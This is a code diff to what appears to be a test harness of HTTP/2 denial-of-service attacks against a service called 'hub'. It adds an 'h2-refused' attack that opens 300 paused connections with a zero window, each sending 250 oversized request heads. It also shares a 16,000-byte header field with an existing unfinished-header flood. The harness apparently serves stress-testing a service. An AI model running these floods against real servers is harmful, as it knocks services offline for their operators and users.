@@ -83,6 +83,12 @@ const CHEAP = [
   frame(UNKNOWN, 0, 0),
 ].map((bytes) => Buffer.concat(Array.from({ length: 1000 }, () => bytes)));
 
+/** RFC 9113 section 6.5.2: SETTINGS_INITIAL_WINDOW_SIZE, 0. */
+const CLOSED_STREAMS = frame(FRAME.SETTINGS, 0, 0, Buffer.from([0, 4, 0, 0, 0, 0]));
+
+/** A literal field without indexing, `a: ` and 16,000 bytes. */
+const LONG_FIELD = Buffer.concat([Buffer.from([0, 1, 97, 127, 0x81, 0x7c]), Buffer.alloc(16_000, 'x')]);
+
 async function unread(target: Target, path: string): Promise<void> {
   for (let count = 0; count < 8; count++) {
     const socket = await open(target);
@@ -115,10 +121,8 @@ export const h2Heads: Attack = {
   victim: 'hub',
   what: 'hub, HTTP/2: 1,000 connections that begin a head of 128 KiB and never end it',
   run: async (target) => {
-    // A literal field without indexing, `a: ` and 16,000 bytes.
-    const value = Buffer.concat([Buffer.from([0, 1, 97, 127, 0x81, 0x7c]), Buffer.alloc(16_000, 'x')]);
     const begun = [frame(FRAME.HEADERS, 0, 1, headOf('/'))];
-    for (let i = 0; i < 7; i++) begun.push(frame(CONTINUATION, 0, 1, value));
+    for (let i = 0; i < 7; i++) begun.push(frame(CONTINUATION, 0, 1, LONG_FIELD));
     const bytes = Buffer.concat(begun);
     for (let at = 0; at < 1000; at += 50)
       for (const socket of await Promise.all(Array.from({ length: 50 }, () => open(target))))
@@ -133,4 +137,22 @@ export const h2Unread: Attack = {
   cluster: LARGE,
   what: 'hub, HTTP/2: 2,000 watches of 5,000 Nodes of 16 KB on 8 connections with wide windows that never read',
   run: (target) => unread(target, INITIAL),
+};
+
+export const h2Refused: Attack = {
+  name: 'h2-refused',
+  victim: 'hub',
+  what: 'hub, HTTP/2: 300 connections, each with 250 requests with heads of 16 KB that are refused, and no answer taken',
+  run: async (target) => {
+    // No preset has that name.
+    const head = Buffer.concat([headOf('/for/nobody/'), LONG_FIELD]);
+    const asked = Array.from({ length: 250 }, (_, i) =>
+      frame(FRAME.HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, head),
+    );
+    const bytes = Buffer.concat([CLOSED_STREAMS, ...asked]);
+    for (let at = 0; at < 300; at += 10)
+      for (const socket of await Promise.all(Array.from({ length: 10 }, () => open(target))))
+        socket?.pause().write(bytes);
+    await sleep(LAST_MS);
+  },
 };
